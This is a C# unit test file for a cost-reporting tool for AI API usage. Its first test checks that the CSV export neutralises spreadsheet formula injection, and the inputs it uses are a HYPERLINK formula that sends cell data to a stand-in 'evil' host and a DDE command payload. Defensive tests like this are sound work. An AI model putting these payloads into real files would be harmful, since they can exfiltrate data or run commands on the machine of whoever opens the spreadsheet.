namespace AiCostGuard.Tests.Reports;

public sealed class ReportInjectionTests
{
    private static readonly DateTimeOffset At = new(2026, 7, 20, 9, 0, 0, TimeSpan.Zero);

    [Fact]
    public void Hostile_model_ids_and_tags_land_in_FOCUS_as_text_never_as_formulas()
    {
        string[] models = ["=HYPERLINK(\"http://evil/?\"&A1)/gpt-4o-mini", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tgpt-4o", "\rgpt-4o", "gpt\r4o"];
        CostRecord[] calls = [.. models.Select(m => new CostRecord
        {
            Timestamp = At,
            ModelId = m,
            Provider = m,
            // Attribution values cannot begin like a formula (AttributionValue refuses them); model and provider ids come from the provider.
            Attribution = new CostAttribution { Team = "search", Feature = "summarize" },
            InputTokens = 10,
            OutputTokens = 1,
            Cost = 0.001m,
            Outcome = CallOutcome.Succeeded,
        })];
        var csv = new StringWriter();
        FocusExport.Write(calls, csv);

        List<Dictionary<string, string>> rows = FocusExportTests.Parse(csv.ToString());
        Assert.Equal(models.Length, rows.Count);
        int cells = 0;
        foreach (Dictionary<string, string> row in rows)
        {
            foreach (string cell in row.Values.Where(v => v.Length > 0))
            {
                cells++;
                Assert.False("=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"formula cell: {cell}");
            }
        }

        Assert.True(cells > models.Length * 30);
        Assert.Equal("'" + models[0], rows[0]["ResourceId"]);
        Assert.Equal("'" + models[0], rows[0]["ProviderName"]);
        Assert.StartsWith("'" + models[0] + ": 10 input tokens", rows[0]["ChargeDescription"], StringComparison.Ordinal);

        // A carriage return inside a value stays inside its quoted cell: the row is not split.
        Assert.Equal(models[6], rows[6]["ResourceId"]);
    }

    [Fact]
    public void Token_totals_that_overflow_are_refused_with_an_error_naming_the_group()
    {
        CostRecord Big(string team) => new() { Timestamp = At, ModelId = "gpt-4o", Attribution = new CostAttribution { Team = team }, InputTokens = long.MaxValue / 2 + 1, OutputTokens = 1, Cost = 1m, Outcome = CallOutcome.Succeeded };

        OverflowException e = Assert.Throws<OverflowException>(() => CostReport.Create([Big("search"), Big("search")], [], ReportDimensions.Team));
        Assert.Contains("the group search", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Reports_group_by_tenant_user_cost_center_and_provider_in_a_fixed_column_order()
    {
        CostRecord Call(string tenant, string user, string center, string provider, decimal cost) => new()
        {
            Timestamp = At,
            ModelId = "gpt-4o",
            Provider = provider,
            Attribution = new CostAttribution { Tenant = tenant, User = user, CostCenter = center },
            Cost = cost,
            Outcome = CallOutcome.Succeeded,
        };

        CostReport report = CostReport.Create(
            [Call("acme", "ann", "cc-1", "openai", 1m), Call("acme", "ann", "cc-1", "openai", 2m), Call("globex", "bob", "cc-2", "anthropic", 4m), new CostRecord { Timestamp = At, Cost = 8m, Outcome = CallOutcome.Succeeded }],
            [],
            ReportDimensions.Provider | ReportDimensions.CostCenter | ReportDimensions.User | ReportDimensions.Tenant);

        Assert.Equal(["tenant", "user", "cost_center", "provider"], report.Columns);
        Assert.Equal([["-", "-", "-", "-"], ["acme", "ann", "cc-1", "openai"], ["globex", "bob", "cc-2", "anthropic"]], report.Rows.Select(r => r.Key.ToArray()));
        Assert.Equal([8m, 3m, 4m], report.Rows.Select(r => r.Cost));
    }

    [Fact]
    public void Every_dimension_has_its_own_column()
    {
        ReportDimensions all = Enum.GetValues<ReportDimensions>().Aggregate(ReportDimensions.None, (a, b) => a | b);
        CostReport report = CostReport.Create([], [], all);
        Assert.Equal(Enum.GetValues<ReportDimensions>().Length - 1, report.Columns.Distinct().Count());
    }
}
